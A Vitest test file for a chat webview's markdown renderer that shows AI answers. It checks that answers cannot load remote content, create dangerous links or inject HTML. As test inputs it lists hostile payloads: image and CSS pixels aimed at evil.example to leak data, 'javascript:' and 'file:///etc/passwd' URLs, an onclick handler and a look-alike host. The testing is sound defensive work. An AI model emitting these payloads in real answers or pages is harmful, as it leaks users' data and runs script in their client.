// @vitest-environment happy-dom
// What an answer may become on the page: nothing that reaches the network, nothing that we did not make ourselves.
import { beforeEach, describe, expect, it } from 'vitest';
import type { MaskedView, SourceView } from '../../../webview/protocol/chat';
import { renderBlocks, type References } from '../../../webview/chat/markdown/render';
import { MarkdownStream } from '../../../webview/chat/markdown/stream';

const sources: SourceView[] = [
  { n: 1, path: 'docs/security/runbook.md', startLine: 10, endLine: 24, classification: 'internal' },
  { n: 2, path: 'keys.ts', startLine: 3, endLine: 40, classification: 'public' },
];
const masked: MaskedView[] = [{ placeholder: '⟦EMAIL_1⟧', kind: 'e-mail address', canReveal: true }];
const shown = new Map<string, string>();
const references: References = {
  source: (n) => sources.find((source) => source.n === n),
  masked: (placeholder) => masked.find((value) => value.placeholder === placeholder),
  revealed: (placeholder) => shown.get(placeholder),
};

function render(text: string): HTMLElement {
  const root = document.createElement('div');
  root.append(...renderBlocks(text, references).map(({ element }) => element));
  return root;
}

function stream(chunks: readonly string[]): HTMLElement {
  const root = document.createElement('div');
  const markdown = new MarkdownStream(root, references);
  let text = '';
  for (const chunk of chunks) {
    text += chunk;
    markdown.update(text, true);
  }
  markdown.update(text, false);
  return root;
}

beforeEach(() => {
  document.documentElement.lang = 'en';
  shown.clear();
});

describe('C2 nothing in an answer reaches the network', () => {
  it.each([
    '![pixel](https://evil.example/p.png?q=1)',
    '![pixel](//evil.example/p.png)',
    '![pixel](data:image/png;base64,AAAA)',
    '[![x](https://evil.example/a.png)](https://evil.example)',
    '<img src=https://evil.example/a.png>',
    '![x][ref]\n\n[ref]: https://evil.example/p.png',
    '<svg><image href="https://evil.example/a.png"/></svg>',
    '<style>@import "https://evil.example/a.css"</style>',
    '| a |\n|---|\n| ![x](https://evil.example/a.png) |',
  ])('loads nothing for %s', (text) => {
    const root = render(text);
    for (const element of root.querySelectorAll('*')) {
      expect(['IMG', 'IMAGE', 'SVG', 'STYLE', 'LINK', 'IFRAME', 'SCRIPT', 'VIDEO', 'AUDIO', 'OBJECT']).not.toContain(
        element.tagName.toUpperCase(),
      );
      for (const name of element.getAttributeNames())
        expect(['src', 'href', 'srcset', 'style', 'background', 'poster', 'action']).not.toContain(name);
    }
  });

  it('says where a picture would have come from', () => {
    expect(render('![the plan](https://evil.example/p.png?q=secret)').textContent).toBe(
      'Image not loaded: evil.example (the plan)',
    );
  });

  it('shows raw HTML as the text it is', () => {
    const text = '<b onclick="alert(1)">bold</b> <script>alert(1)</script> <!-- hidden -->';
    const root = render(text);
    expect(root.textContent).toBe(text);
    expect(root.querySelectorAll('b, script')).toHaveLength(0);
  });

  it.each([
    'javascript:alert(1)',
    'command:workbench.action.quit',
    'data:text/html,x',
    'vscode://x/y',
    'file:///etc/passwd',
    'JaVaScRiPt:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
  ])('makes no link of %s', (url) => {
    const root = render(`[go](${url}) <${url}>`);
    expect(root.querySelectorAll('a')).toHaveLength(0);
    expect(root.textContent).toContain('go');
  });

  it('shows the real target of a link beside its text and lets only the host open it', () => {
    const link = render('[docs.example](https://evil.example/steal?d=1)').querySelector('a');
    expect(link?.textContent).toBe('docs.example (evil.example)');
    expect(link?.title).toBe('https://evil.example/steal?d=1');
    expect(link?.getAttribute('href')).toBeNull();
    expect(link?.dataset['url']).toBe('https://evil.example/steal?d=1');
  });

  it('shows look-alike letters of a host as what they are', () => {
    const link = render('[bank](https://аpple.example/)').querySelector('a');
    expect(link?.textContent).toContain('xn--');
  });

  it('does not repeat an address that is its own text', () => {
    expect(render('<https://docs.example/page>').querySelector('a')?.textContent).toBe('https://docs.example/page');
  });

  it('makes no link of a bare address', () => {
    expect(render('see https://docs.example/page').querySelector('a')).toBeNull();
  });
});

describe('R3 citations', () => {
  it('makes a button only of a source that exists', () => {
    const root = render('One [1], two [2][1], list [1, 2], none [3] [1, 3] and `a[1]`.');
    expect([...root.querySelectorAll('.cite')].map(({ textContent }) => textContent)).toEqual([
      '1',
      '2',
      '1',
      '1',
      '2',
    ]);
    expect(root.textContent).toContain('none [3] [1, 3] and a[1].');
  });

  it('is not taken over by a link or a definition of the model', () => {
    const root = render('Yes [1].\n\n[1]: https://evil.example');
    expect(root.querySelectorAll('a')).toHaveLength(0);
    expect(root.querySelectorAll('.cite')).toHaveLength(2);
    expect(render('[1](https://evil.example)').querySelector('a')?.textContent).toBe('1 (evil.example)');
  });

  it('names the source for a screen reader', () => {
    expect(render('Yes [1].').querySelector('.cite')?.getAttribute('aria-label')).toBe(
      '1, source: runbook.md, lines 10 to 24',
    );
  });
});

describe('G3 masked values', () => {
  it('are pills, in text and in code, when this turn masked them', () => {
    const root = render('Write to ⟦EMAIL_1⟧ or ⟦EMAIL_2⟧, `⟦EMAIL_1⟧`\n\n```ini\nto = ⟦EMAIL_1⟧\n```');
    expect(root.querySelectorAll('.mask')).toHaveLength(3);
    expect(root.textContent).toContain('⟦EMAIL_2⟧');
    expect(root.querySelector('pre code')?.textContent).toBe('to = ⟦EMAIL_1⟧');
  });

  it('show the value once the host has given it', () => {
    shown.set('⟦EMAIL_1⟧', '<b>a@b.example</b>');
    expect(render('To ⟦EMAIL_1⟧').querySelector('.mask')?.textContent).toBe('<b>a@b.example</b>');
  });
});

describe('C2 blocks', () => {
  it('highlights code without changing it', () => {
    const code = 'export const a: number = 1; // <b>&amp;</b>\nconst s = `x${a}`;';
    const root = render(`\`\`\`ts\n${code}\n\`\`\``);
    expect(root.querySelector('pre code')?.textContent).toBe(code);
    expect(root.querySelector('.tok-k')?.textContent).toBe('export');
    expect(root.querySelectorAll('b')).toHaveLength(0);
  });

  it('takes no language from the answer into an attribute unless it looks like one', () => {
    expect(render('```"><img src=x>\nx\n```').querySelector('figure')?.dataset['language']).toBe('');
    expect(render('```c++\nx\n```').querySelector('figure')?.dataset['language']).toBe('c++');
  });

  it('puts a table into a region of its own that scrolls', () => {
    const region = render('| a | b |\n|---|:-:|\n| 1 | 2 |').querySelector('.table');
    expect(region?.getAttribute('aria-label')).toBe('Table: 2 columns, 1 rows');
    expect(region?.querySelectorAll('td')).toHaveLength(2);
  });

  it('begins with the third level of headings whatever the model began with', () => {
    const levels = (text: string): string[] => [...render(text).children].map(({ tagName }) => tagName);
    expect(levels('#### a\n\n##### b\n\n# c')).toEqual(['H3', 'H4', 'H3']);
  });

  it('keeps the number with which a list begins', () => {
    expect(render('3. c\n4. d').querySelector('ol')?.getAttribute('start')).toBe('3');
  });
});

const documents = [
  'The key is rotated **every 90 days**. [1]\n\n1. Check `hsm`. [1]\n2. Create.\n\n   ```bash\n   a --b\n   ```\n3. Publish [2]\n\n| a | b |\n|---|---|\n| 1 | ⟦EMAIL_1⟧ |\n\nEnd.',
  '# One\n\ntext\n\n## Two\n\n- a\n\n- b\n  - c\n\n2\n\n1. x\n\n2. y\n\n> quote\ncontinued\n\n---\n\ntitle\n===\n',
  'a\r\nb\r\n\r\n```ts\r\nconst x = 1;\r\n\r\nconst y = [1];\r\n```\r\nafter',
  '    code\n\n    more\n\npara\n- list\n2. not a new list\n\n***\n* * *\n- a\n\n\n- b\n\n[1]: https://x.example\n\n[1]',
  '> - a\n>   b\n\n> ```\n> c\n\nd **e `f` g** h ~~i~~ ![x](https://e.example/i.png) [l](https://e.example)\n\n```\nunclosed **x** [1',
  '1. a\n\n2. b\n\n\n3) c\n\n+ d\n* e\n\t- f\n\n|a|\n|-|\n|b|\nc\n\nlast ⟦EMAIL_1⟧ and ⟦EMAIL',
];

describe('C1 a stream looks like the whole at every cut', () => {
  it.each(documents.map((text, index) => [index, text] as const))('document %i, by single characters', (_, text) => {
    expect(stream(text.split(/(?<=.)/su)).innerHTML).toBe(stream([text]).innerHTML);
  });

  it.each(documents.map((text, index) => [index, text] as const))('document %i, by random cuts', (index, text) => {
    const whole = render(text.replace(/\r\n/gu, '\n')).innerHTML;
    let seed = index + 1;
    const random = (): number => (seed = (seed * 48_271) % 2_147_483_647) / 2_147_483_647;
    for (let round = 0; round < 8; round++) {
      const chunks: string[] = [];
      for (let at = 0; at < text.length;) {
        const size = 1 + Math.floor(random() * 12);
        chunks.push(text.slice(at, at + size));
        at += size;
      }
      expect(stream(chunks).innerHTML).toBe(whole);
    }
  });

  it('keeps the elements of what is above the last block', () => {
    const root = document.createElement('div');
    const markdown = new MarkdownStream(root, references);
    markdown.update('first [1]\n\nsecond', true);
    const [first, second] = root.children;
    markdown.update('first [1]\n\nsecond and more\n\nthird', true);
    expect(root.children[0]).toBe(first);
    expect(root.children[1]).toBe(second);
    expect(second?.textContent).toBe('second and more');
    expect(root.children).toHaveLength(3);
  });

  it('does not show half a citation, half a placeholder or the signs of unfinished bold and code', () => {
    const seen = (text: string): string => {
      const root = document.createElement('div');
      new MarkdownStream(root, references).update(text, true);
      return root.textContent;
    };
    expect(seen('Yes [1')).toBe('Yes');
    expect(seen('Yes [')).toBe('Yes');
    expect(seen('To ⟦EMAIL_')).toBe('To');
    expect(seen('is **ver')).toBe('is ver');
    expect(seen('call `load')).toBe('call load');
    expect(seen('```\na ** b `c')).toContain('a ** b `c');
  });

  it('shows a shorter text, too', () => {
    const root = document.createElement('div');
    const markdown = new MarkdownStream(root, references);
    markdown.update('one\n\ntwo\n\nthree', true);
    markdown.update('other', false);
    expect(root.textContent).toBe('other');
    expect(root.children).toHaveLength(1);
  });
});
